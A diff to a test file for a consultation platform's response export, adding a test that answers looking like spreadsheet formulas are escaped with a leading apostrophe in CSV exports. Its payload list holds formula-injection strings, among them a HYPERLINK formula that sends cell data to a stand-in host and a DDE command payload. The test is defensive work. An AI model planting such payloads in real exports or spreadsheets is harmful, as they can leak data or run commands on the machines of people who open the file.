@@ -1,5 +1,6 @@
 """Engagement leads key in paper responses, read and export them; results count every channel."""
 
+import csv
 import datetime
 import io
 import threading
@@ -287,3 +288,26 @@ def test_contact_details_need_their_own_permission(client, open_consultation):
     csv = b"".join(client.get(url, {"export": "csv", "include_contact": "1"}).streaming_content).decode()
     assert "Paper" in csv
     assert "pat@example.org" not in csv
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)"]
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_answers_that_look_like_formulas_download_as_text(publisher_client, open_consultation, formula):
+    """A spreadsheet runs a CSV cell that starts with = + - or @; the export makes it text."""
+    Client().post(
+        open_consultation.url,
+        answers_for(open_consultation, uuid.uuid4(), what_worries_you_about_the_change=formula),
+    )
+    url = reverse("wagtailforms:list_submissions", args=[open_consultation.pk])
+
+    for contact in ({}, {"include_contact": "1"}):
+        export = b"".join(publisher_client.get(url, {"export": "csv", **contact}).streaming_content).decode()
+        header, row = csv.reader(io.StringIO(export))
+        assert row[header.index("What worries you about the change?")] == "'" + formula
+
+    workbook = openpyxl.load_workbook(
+        io.BytesIO(b"".join(publisher_client.get(url, {"export": "xlsx"}).streaming_content))
+    )
+    assert formula in [cell.value for cell in workbook.active[2]], "the spreadsheet keeps the words as written"
